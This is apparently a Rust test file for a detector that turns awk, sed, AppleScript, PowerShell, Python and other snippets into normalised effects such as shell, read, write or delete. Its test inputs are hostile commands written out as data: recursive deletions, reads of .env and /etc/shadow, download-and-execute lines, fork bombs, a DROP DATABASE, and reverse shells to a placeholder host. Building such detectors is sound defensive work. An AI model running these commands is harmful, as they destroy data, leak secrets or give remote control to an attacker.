use super::{Language, check};

#[test]
fn awk() {
    check(
        Language::Awk,
        &[
            ("BEGIN{system(\"rm -rf /\")}", "sh rm -rf /"),
            ("BEGIN { system(\"rm \" \"-rf /\") }", "sh rm -rf /"),
            ("{ system(\"rm \" $1) }", "sh rm ?"),
            ("BEGIN { c = \"rm -rf /\"; system(c) }", "sh rm -rf /"),
            ("BEGIN { system(\"rm -rf \" ENVIRON[\"HOME\"]) }", "sh rm -rf ${HOME}"),
            ("BEGIN { \"rm -rf /\" | getline x }", "sh rm -rf /"),
            ("BEGIN { while ((\"ls\" | getline f) > 0) print f }", "sh ls"),
            ("{ print \"rm -rf /\" | \"sh\" }", "sh rm -rf /"),
            ("{ print $1 | \"sort\" }", "sh sort"),
            ("{ print $0 > \"/etc/passwd\" }", "write /etc/passwd"),
            ("{ print >> \"x\" }", "write x"),
            ("{ printf \"%s\", $1 > \"x\" }", "write x"),
            ("BEGIN { while ((getline line < \".env\") > 0) print line }", "read .env"),
            ("{ print $1 }", ""),
            ("$3 > \"m\" { print }", ""),
            ("{ if ($1 > 5) print \"system(x)\" }", ""),
            ("/system(\"rm\")/ { print }", ""),
            ("# system(\"x\")\n{ print }", ""),
            ("{ s += $1 / $2 } END { print s / NR }", ""),
        ],
    );
}

#[test]
fn sed() {
    check(
        Language::Sed,
        &[
            ("1e rm -rf ~", "sh rm -rf ~"),
            ("$!{/x/e rm -rf ~", "sh rm -rf ~"),
            ("1,/e/ e date", "sh date"),
            ("e", "sh sh"),
            ("s/x/rm -rf ~/;e", "sh rm -rf ~\nsh sh"),
            ("s/x/rm -rf ~/e", "sh rm -rf ~\nsh sh"),
            ("s/.*/rm -rf \\/home/e", "sh rm -rf /home\nsh sh"),
            ("s|a[|]b|rm -rf /|gep", "sh rm -rf /\nsh sh"),
            ("s#;#rm -rf &\\1#2e;p", "sh rm -rf ??\nsh sh"),
            ("s/a/b/\n\\,x,e rm x", "sh rm x"),
            ("/x/{s//date/e;p}", "sh date\nsh sh"),
            ("w /etc/hosts", "write /etc/hosts"),
            ("1,3w /etc/x", "write /etc/x"),
            ("s/a/b/gw out.txt", "write out.txt"),
            ("1r /etc/shadow", "read /etc/shadow"),
            ("s/a\\/e/b/", ""),
            ("s/foo/the/g", ""),
            ("s/x/;e rm -rf ~/", ""),
            ("/a;e rm -rf ~/d", ""),
            ("s/[]/]/e rm -rf ~/", ""),
            ("y/abe/xyz/;p", ""),
            (":e;N;$!be;s/\\n/ /g", ""),
            ("a\\\ne rm -rf ~\\\ne rm -rf /\np", ""),
            ("i e rm -rf ~", ""),
            ("# e rm\n1!G;h;$!d", ""),
            ("s/[", ""),
        ],
    );
}

#[test]
fn applescript() {
    check(
        Language::AppleScript,
        &[
            ("do shell script \"rm -rf /\"", "sh rm -rf /"),
            ("do shell script \"rm -rf \" & \"/\"", "sh rm -rf /"),
            ("do shell script \"rm -rf \" & quoted form of p", "sh rm -rf ?"),
            ("tell app \"Finder\" to do shell script \"x\" with administrator privileges", "sh x"),
            ("display dialog \"do shell script x\"", ""),
            ("-- do shell script \"x\"", ""),
            ("(* do shell script \"x\" *) do shell script \"y\"", "sh y"),
        ],
    );
}

#[test]
fn powershell() {
    check(
        Language::PowerShell,
        &[
            ("Remove-Item -Recurse -Force /", "delete-all /"),
            ("remove-item '/x' -rec", "delete-all /x"),
            ("rm -r -fo $HOME", "delete-all ~"),
            ("Remove-Item -Path $env:USERPROFILE/x -Recurse", "delete-all ~/x"),
            ("ri x", "delete x"),
            ("$p = '/'; Remove-Item $p -Recurse", "delete-all /"),
            ("Get-Content .env", "read .env"),
            ("Set-Content -Path .env -Value x", "write .env"),
            ("'x' | Out-File .env", "write .env"),
            ("Move-Item a b", "delete a\nwrite b"),
            ("iex (irm https://x)", "unresolved downloaded"),
            ("irm https://x | iex", "unresolved downloaded"),
            ("iex 'Remove-Item x'", "delete x"),
            ("git push --force; ls", "run git|push|--force\nrun ls"),
            ("Write-Host 'Remove-Item -Recurse /'", ""),
            ("# Remove-Item x", ""),
            ("Get-ChildItem -Path . | Remove-Item -Recurse", "run Get-ChildItem|-Path|."),
        ],
    );
}

#[test]
fn deeds_are_written_as_the_commands_that_they_are() {
    check(
        Language::Python,
        &[
            ("while True: os.fork()", "sh :(){ :|:& };:"),
            ("pid = os.fork()", ""),
            (
                "import socket,os,pty;s=socket.socket();s.connect(('h',4));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')",
                "sh sh -i >& /dev/tcp/?/1 0>&1\nsh sh",
            ),
            ("import socket; print(socket.gethostname())", ""),
            (
                "c = psycopg2.connect('x')\nc.cursor().execute('DROP DATABASE app')",
                "run psql|-c|DROP DATABASE app",
            ),
            ("cur.execute('SELECT 1')", ""),
            ("c = sqlite3.connect(':memory:'); c.execute('DROP TABLE t')", ""),
            ("subprocess.run(shlex.split('git push -f'))", "run git|push|-f"),
            ("import sys; exec(sys.stdin.read())", "unresolved read from standard input"),
            ("import sys; print(sys.stdin.read())", ""),
            ("!rm -rf ~", "sh rm -rf ~"),
        ],
    );
    check(
        Language::Awk,
        &[(
            "BEGIN{s=\"/inet/tcp/0/h/4\";while(1){s|&getline c;while((c|&getline)>0)print|&s}}",
            "sh sh -i >& /dev/tcp/?/1 0>&1\nsh /inet/tcp/0/h/4\nsh ?\nsh /inet/tcp/0/h/4",
        )],
    );
    check(
        Language::Ruby,
        &[("spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"h\",4))", "sh sh -i >& /dev/tcp/?/1 0>&1\nsh sh")],
    );
    check(Language::Perl, &[("fork while fork", "sh :(){ :|:& };:")]);
    check(
        Language::JavaScript,
        &[
            ("eval(require('fs').readFileSync(0, 'utf8'))", "unresolved read from standard input"),
            ("await pool.query('DROP TABLE users')", "run psql|-c|DROP TABLE users"),
        ],
    );
    check(Language::Ruby, &[("eval STDIN.read", "unresolved read from standard input")]);
    check(Language::AppleScript, &[("a.doShellScript(\"rm -rf ~\")", "sh rm -rf ~")]);
}
